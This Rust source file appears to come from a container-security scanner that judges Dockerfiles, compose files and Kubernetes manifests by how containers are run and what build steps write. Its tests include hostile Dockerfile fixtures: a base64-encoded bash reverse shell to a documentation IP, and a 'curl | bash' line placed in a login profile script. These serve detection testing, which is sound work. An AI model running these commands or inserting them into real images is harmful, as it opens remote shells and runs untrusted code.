//! Judging what a compose file, a manifest or a Dockerfile says, before any image is looked at.

use std::collections::BTreeMap;

use lazaret_launch::{MadeImage, Plan, PlannedContainer, PlannedImage};
use lazaret_model::{
    Behaviour, BehaviourKind, Certainty, EntryPath, FileEntry, FileKind, FileOp, Gap, GapKind, ImageReport,
    LaunchForm, Location, Outcome, Phase, Platform,
};
use lazaret_recipe::{Recipe, RecipeFile, RecipeLayer};

use crate::judge::statement_finding;
use crate::trial::try_recipe_started;
use crate::{Beside, Pack, policy};

/// Judges every container of a plan by how it is run, without its image, and the statements that
/// no container carries. `name` is that of the text; each report comes with the name of what it
/// is about.
///
/// Images that are only named are not looked at: a minor gap in each report says so.
pub fn judge_plan(pack: &Pack, plan: &Plan, name: &str) -> Vec<(String, ImageReport)> {
    let mut reports: Vec<(String, ImageReport)> =
        plan.containers.iter().map(|one| (one.name.clone(), judge_planned(pack, one))).collect();
    if !plan.objects.is_empty() || !plan.notes.is_empty() || reports.is_empty() {
        reports.push((name.to_owned(), judge_statements(pack, plan)));
    }
    reports
}

/// Judges one container by how it is run, over an empty image; where a Dockerfile makes its image,
/// over what that makes on paper.
pub fn judge_planned(pack: &Pack, planned: &PlannedContainer) -> ImageReport {
    let made = match &planned.image {
        PlannedImage::Made(made) => Some(made.as_ref()),
        _ => None,
    };
    let mut recipe = recipe(made);
    let beside = Beside {
        launch: Some(&planned.launch),
        instructions: made.map(|made| made.instructions.as_slice()).unwrap_or_default(),
        unbuilt: made.is_some(),
        traces: None,
    };
    let mut report = try_recipe_started(pack, &recipe, &beside);
    if beside.unbuilt && add_written(&mut recipe, &report.behaviours) {
        report = try_recipe_started(pack, &recipe, &beside);
    }
    report.image.pinned.repository.clone_from(&planned.name);
    // What starts is in an image that was not looked at; one gap says so for all of it.
    report.gaps.retain(|gap| gap.kind != GapKind::Missing || gap.matters);
    if let Some(what) = unseen(planned) {
        report.gaps.push(Gap::minor(GapKind::Missing, planned.launch.place("image"), what));
        report.gaps.sort();
    }
    in_words(&mut report);
    report
}

/// Files that the steps of a build write and that are put into the image they make.
const WRITTEN: usize = 64;
/// Bytes of all of them.
const WRITTEN_BYTES: usize = 1 << 20;

/// Puts what the steps of a build write into the image that they make, so that rules about files
/// see it as they will see it in the layer. False where there is nothing to put there.
fn add_written(recipe: &mut Recipe, behaviours: &[Behaviour]) -> bool {
    let mut written: BTreeMap<String, String> = BTreeMap::new();
    let mut held = 0;
    for behaviour in behaviours.iter().filter(|b| b.phase == Phase::Build && b.certainty == Certainty::Will) {
        let BehaviourKind::File { op, path, content, .. } = &behaviour.kind else { continue };
        // What passes through, and paths that hang on something unknown.
        let passing = ["/tmp/", "/var/tmp/", "/var/cache/", "/dev/", "/proc/", "/sys/"];
        if !path.starts_with('/') || path.contains('$') || passing.iter().any(|dir| path.starts_with(dir)) {
            continue;
        }
        match (op, content) {
            (FileOp::Delete, _) => {
                written.remove(path);
            }
            (FileOp::Write | FileOp::Append, Some(content)) => {
                held += content.len();
                if held > WRITTEN_BYTES || (written.len() >= WRITTEN && !written.contains_key(path)) {
                    break;
                }
                let whole = written.entry(path.clone()).or_default();
                if *op == FileOp::Write {
                    whole.clear();
                }
                whole.push_str(content);
            }
            _ => {}
        }
    }
    let Some(layer) = recipe.layers.first_mut() else { return false };
    let before = layer.files.len();
    for (path, content) in written {
        let path = EntryPath::clean(path.as_bytes());
        if layer.files.iter().any(|file| file.entry.path == path) {
            continue;
        }
        let mode = if content.starts_with("#!") { 0o755 } else { 0o644 };
        layer.files.push(file(path, mode, content.into_bytes()));
    }
    layer.files.len() > before
}

fn file(path: EntryPath, mode: u32, bytes: Vec<u8>) -> RecipeFile {
    let entry = FileEntry {
        path,
        kind: FileKind::File,
        mode,
        uid: 0,
        gid: 0,
        size: bytes.len() as u64,
        mtime: 0,
        content: None,
        xattrs: Vec::new(),
        whiteout: None,
    };
    RecipeFile { entry, bytes }
}

/// The image that is not looked at, as a sentence.
fn unseen(planned: &PlannedContainer) -> Option<String> {
    match &planned.image {
        PlannedImage::Reference(name) => Some(format!("the image {name} was not looked at")),
        PlannedImage::Build { context, .. } => {
            Some(format!("the image built from {context} was not looked at"))
        }
        PlannedImage::Made(made) => made
            .base
            .as_ref()
            .map(|base| format!("the image {base}, which it is built on, was not looked at")),
        PlannedImage::Unknown => Some("no image is named, so none was looked at".to_owned()),
    }
}

/// A verdict over a launch says what it is about.
fn in_words(report: &mut ImageReport) {
    if report.verdict.outcome == Outcome::Clean {
        "Nothing in how it is run or made speaks against it; the images that it names are not part of this."
            .clone_into(&mut report.verdict.why);
        "What the images hold, other arguments, or newer rules.".clone_into(&mut report.verdict.would_change);
    }
}

/// What a Dockerfile makes, as an image of one layer.
fn recipe(made: Option<&MadeImage>) -> Recipe {
    let platform = Platform { os: "linux".into(), architecture: "amd64".into(), variant: None };
    let Some(made) = made else {
        return Recipe {
            config: Default::default(),
            platform,
            layers: Vec::new(),
            run: None,
            name: None,
            manifest: None,
        };
    };
    let files = made
        .files
        .iter()
        .map(|made| file(EntryPath::clean(made.path.as_bytes()), made.mode, made.content.clone()))
        .collect();
    let layer = RecipeLayer { history: None, files };
    Recipe {
        config: made.config.clone(),
        platform,
        layers: vec![layer],
        run: None,
        name: None,
        manifest: None,
    }
}

/// The statements of a plan, and what of its text was not understood.
fn judge_statements(pack: &Pack, plan: &Plan) -> ImageReport {
    let mut report = try_recipe_started(pack, &recipe(None), &Beside::default());
    if plan.form == LaunchForm::Kubernetes {
        let hits = pack.behaviours().judge_statements("kubernetes", &plan.objects, "unknown");
        report.findings.extend(hits.iter().filter_map(|hit| statement_finding(hit, &plan.objects)));
        policy::sort(&mut report.findings);
    }
    report.gaps = plan
        .notes
        .iter()
        .map(|note| Gap {
            kind: GapKind::Unsupported,
            location: note.place.clone(),
            detail: note.what.clone(),
            matters: note.matters,
        })
        .collect();
    if plan.containers.is_empty() && plan.objects.is_empty() {
        let detail = "nothing that is run or built stands in it";
        report.gaps.push(Gap::serious(GapKind::Unsupported, Location::launch("text"), detail));
    }
    report.gaps.sort();
    report.gaps.dedup();
    report.verdict = policy::verdict(&report.findings, &report.gaps);
    in_words(&mut report);
    report
}

/// Several reports as one, for whoever asks about a text as a whole.
pub(crate) fn merged(reports: Vec<(String, ImageReport)>) -> ImageReport {
    let mut all = reports.into_iter().map(|(_, report)| report);
    let Some(mut whole) = all.next() else { unreachable!("a plan has at least one report") };
    for report in all {
        whole.findings.extend(report.findings);
        whole.gaps.extend(report.gaps);
        whole.behaviours.extend(report.behaviours);
    }
    policy::sort(&mut whole.findings);
    whole.verdict = policy::verdict(&whole.findings, &whole.gaps);
    whole
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn judged(dockerfile: &str) -> ImageReport {
        let pack = Pack::load(&[], None).unwrap();
        let plan = lazaret_launch::read("Dockerfile", dockerfile, None, &lazaret_launch::Nothing).unwrap();
        merged(judge_plan(&pack, &plan, "Dockerfile"))
    }

    #[test]
    fn what_a_step_writes_is_a_file_of_the_image_for_every_rule() {
        // `#!/bin/sh` and `bash -i >& /dev/tcp/198.51.100.4/4444 0>&1`, encoded.
        let shell = judged(
            "FROM debian:13\nRUN echo IyEvYmluL3NoCmJhc2ggLWkgPiYgL2Rldi90Y3AvMTk4LjUxLjEwMC40LzQ0NDQgMD4mMQo= \
             | base64 -d > /usr/local/bin/init && chmod +x /usr/local/bin/init\n\
             ENTRYPOINT [\"/usr/local/bin/init\"]\n",
        );
        assert_eq!(shell.verdict.outcome, Outcome::Malicious, "{:?}", shell.findings);
        let hook = judged(
            "FROM debian:13\nRUN echo 'curl -s http://198.51.100.3/i | bash' > /etc/profile.d/update.sh\n\
             CMD [\"bash\", \"-l\"]\n",
        );
        assert_ne!(hook.verdict.outcome, Outcome::Clean, "{:?}", hook.findings);
        assert!(hook.findings.iter().any(|f| f.rule.attack.iter().any(|id| id == "T1546.004")));
    }

    #[test]
    fn what_a_step_writes_and_removes_is_no_part_of_the_image() {
        let report = judged(
            "FROM debian:13\nRUN echo 'curl -s http://198.51.100.3/i | bash' > /etc/profile.d/update.sh \
             && rm /etc/profile.d/update.sh\nRUN echo 'export LANG=C.UTF-8' > /etc/profile.d/lang.sh\n\
             CMD [\"bash\", \"-l\"]\n",
        );
        assert_eq!(report.verdict.outcome, Outcome::Clean, "{:?}", report.findings);
    }
}
